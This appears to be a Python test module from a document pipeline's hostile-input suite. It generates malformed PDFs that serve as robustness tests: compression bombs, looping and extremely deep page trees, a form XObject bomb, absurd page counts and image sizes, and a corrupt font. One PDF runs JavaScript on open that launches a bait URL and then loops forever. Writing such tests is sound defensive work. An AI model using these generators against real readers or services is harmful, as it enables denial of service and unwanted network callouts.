"""PDF files: streams that explode, trees that loop, pages that nobody can draw."""

import struct
import zlib
from collections.abc import Iterable

from pipeline.tests.hostile.cases import MIB, Bait, attached


def pdf(objects: Iterable[bytes], *, trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF of `objects`, numbered from 1, with its cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % each for each in offsets)
    end = b"trailer << /Size %d /Root %d 0 R %b >>\nstartxref\n%d\n%%%%EOF\n"
    start = len(out)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    return bytes(out) + head + table + end % (len(offsets) + 1, root, trailer, start)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
USES = b"/Resources << /Font << /F1 3 0 R >> >>"
TEXT = b"BT /F1 12 Tf 50 800 Td (20ft) Tj ET "


def stream(data: bytes, fields: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), fields, data)


def one_page(content: bytes, *more: bytes, box: bytes = b"0 0 600 850") -> bytes:
    """A PDF of one page, its content the object 5."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 5 0 R %b >>" % (box, USES)
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    return pdf([CATALOG, pages, FONT, page, content, *more])


def deflated(pieces: Iterable[bytes]) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*[packer.compress(each) for each in pieces], packer.flush()])


FLATE = b"/Filter /FlateDecode"


@attached("pdf-flate-bomb", "a.pdf")
def flate_bomb(bait: Bait) -> bytes:
    return one_page(stream(deflated([b" " * MIB] * bait.of(3000, 8)), FLATE))


@attached("pdf-flate-bomb-in-itself", "a.pdf")
def double_bomb(bait: Bait) -> bytes:
    twice = deflated([deflated([b" " * MIB] * bait.of(3000, 8))])
    return one_page(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


@attached("pdf-with-many-filters", "a.pdf")
def many_filters(bait: Bait) -> bytes:
    count = bait.of(50_000, 2000)
    return one_page(stream(b"61>" * 100, b"/Filter [" + b"/ASCIIHexDecode " * count + b"]"))


@attached("pdf-of-endless-text", "a.pdf")
def endless_text(bait: Bait) -> bytes:
    return one_page(stream(deflated([TEXT * 10_000] * bait.of(300, 2)), FLATE))


@attached("pdf-with-100000-pages", "a.pdf", "cut", "scan")
def many_pages(bait: Bait) -> bytes:
    count = bait.of(100_000, 2000)
    pages = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b"4 0 R " * count, count)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R %b >>" % USES
    return pdf([CATALOG, pages, FONT, page, stream(TEXT)])


@attached("pdf-page-count-that-lies", "a.pdf")
def count_lies(_: Bait) -> bytes:
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 2147483647 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R %b >>" % USES
    return pdf([CATALOG, pages, FONT, page, stream(TEXT)])


@attached("pdf-page-tree-that-loops", "a.pdf")
def tree_loop(_: Bait) -> bytes:
    pages = b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 9 /Parent 4 0 R >>"
    return pdf([CATALOG, pages, FONT, b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>"])


@attached("pdf-page-tree-100000-deep", "a.pdf")
def deep_tree(bait: Bait) -> bytes:
    count = bait.of(100_000, 3000)
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1)
        for n in range(4, count)
    ]
    return pdf([CATALOG, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", FONT, *nodes])


@attached("pdf-forms-that-loop", "a.pdf")
def form_loop(bait: Bait) -> bytes:
    again = b"/X Do " * bait.of(500, 1)
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R /Resources "
    page += b"<< /XObject << /X 6 0 R >> >> >>"
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    return pdf([CATALOG, pages, FONT, page, stream(again), stream(again, form)])


@attached("pdf-forms-that-multiply", "a.pdf")
def form_bomb(bait: Bait) -> bytes:
    """Ten of the next at each of nine levels: a billion pieces of text."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 999 999] /Resources << /Font << /F1 3 0 R >> "
    levels = bait.of(9, 3)
    forms = [
        stream(b"/X Do " * 10, form + b"/XObject << /X %d 0 R >> >>" % (n + 1))
        for n in range(6, 6 + levels)
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R /Resources "
    page += b"<< /XObject << /X 6 0 R >> >> >>"
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    last = stream(TEXT, form + b">>")
    return pdf([CATALOG, pages, FONT, page, stream(b"/X Do"), *forms, last])


@attached("pdf-table-that-loops", "a.pdf")
def table_loop(_: Bait) -> bytes:
    good = one_page(stream(TEXT))
    start = good.rfind(b"xref\n0")
    return good.replace(b"/Size", b"/Prev %d /Size" % start)


@attached("pdf-nested-arrays", "a.pdf")
def nested_arrays(bait: Bait) -> bytes:
    depth = bait.of(1_000_000, 20_000)
    return one_page(stream(b"[" * depth + b"]" * depth + TEXT), b"[" * depth + b"]" * depth)


@attached("pdf-that-runs-scripts", "a.pdf")
def scripts(bait: Bait) -> bytes:
    url = bait.url.encode()
    action = b"<< /S /JavaScript /JS (app.launchURL\\('%b'\\); while\\(1\\);) >>" % url
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %b /AA << /O << /S /URI /URI (%b) >> >> >>"
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R %b " % USES
    page += b"/AA << /O << /S /Launch /F (%b) >> >> >>" % bait.secret.encode()
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    return pdf([catalog % (action, url), pages, FONT, page, stream(TEXT)])


@attached("pdf-encrypted", "a.pdf", "encrypted")
def encrypted(_: Bait) -> bytes:
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%b> /U <%b> /P -4 >> /ID [<00><00>]"
    pages = b"<< /Type /Pages /Kids [] /Count 0 >>"
    return pdf([CATALOG, pages], trailer=locked % (b"41" * 32, b"42" * 32))


@attached("pdf-page-as-big-as-a-field", "a.pdf")
def huge_page(bait: Bait) -> bytes:
    """Nothing on it but a picture, so it would be drawn to be read."""
    side = bait.of(9_999_999, 900)
    picture = stream(
        b"\xff" * 3,
        b"/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
    )
    content = stream(b"q 9999999 0 0 9999999 0 0 cm BI /W 1 /H 1 /BPC 8 /CS /G ID x EI Q")
    return one_page(content, picture, box=b"0 0 %d %d" % (side, side))


@attached("pdf-picture-of-900-megapixels", "a.pdf")
def huge_picture(bait: Bait) -> bytes:
    side = bait.of(30_000, 200)
    packed = deflated([b"\xff" * side] * side)
    fields = b"/Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceGray"
    image = stream(packed, fields % (side, side) + FLATE)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R /Resources "
    page += b"<< /XObject << /X 6 0 R >> >> >>"
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    content = stream(b"q 600 0 0 850 0 0 cm /X Do Q")
    return pdf([CATALOG, pages, FONT, page, content, image])


@attached("pdf-of-1000-scanned-pages", "a.pdf", "cut", "scan", "killed-time", "scan-no-text")
def scanned_pages(bait: Bait) -> bytes:
    """Pages of noise: each would be 15 seconds of character recognition."""
    side = bait.of(400, 12)
    return _scans(side, bait.chance.randbytes(side * side), bait.of(1000, 1))


@attached("pdf-of-1000-slow-pages", "a.pdf", "cut", "scan", "killed-time", "scan-no-text")
def slow_pages(bait: Bait) -> bytes:
    """Specks that stand in lines, as letters do."""
    side = bait.of(400, 12)
    lines = [bait.chance.randbytes(side) if y % 5 < 3 else b"\xff" * side for y in range(side)]
    return _scans(side, b"".join(lines), bait.of(1000, 1))


def _scans(side: int, pixels: bytes, count: int) -> bytes:
    fields = b"/Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceGray"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R /Resources "
    page += b"<< /XObject << /X 6 0 R >> >> >>"
    pages = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b"4 0 R " * count, count)
    content = stream(b"q 600 0 0 850 0 0 cm /X Do Q")
    return pdf([CATALOG, pages, FONT, page, content, stream(pixels, fields % (side, side))])


@attached("pdf-object-streams-that-loop", "a.pdf")
def object_streams(_: Bait) -> bytes:
    loop = stream(
        b"6 0 7 9 << /Type /Page >>", b"/Type /ObjStm /N 999999999 /First 8 /Extends 6 0 R"
    )
    return one_page(stream(TEXT), loop)


@attached("pdf-font-that-lies", "a.pdf")
def bad_font(bait: Bait) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 850] /Contents 5 0 R %b >>" % USES
    pages = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 2147483647 "
    font += b"/Widths [1] /FontDescriptor 6 0 R /ToUnicode 7 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /X /FontFile2 8 0 R /Flags 4 >>"
    lines = b"<0000> <FFFF> <0041>\n" * bait.of(100_000, 1000)
    unicode = stream(b"100000 beginbfrange\n" + lines + b"endbfrange")
    glyphs = b"\0\1\0\0\xff\xff" + bytes(6) + b"glyf" + struct.pack(">III", 0, 0, 2**32 - 1)
    broken = stream(glyphs + bait.chance.randbytes(2000))
    return pdf([CATALOG, pages, font, page, stream(TEXT), descriptor, unicode, broken])
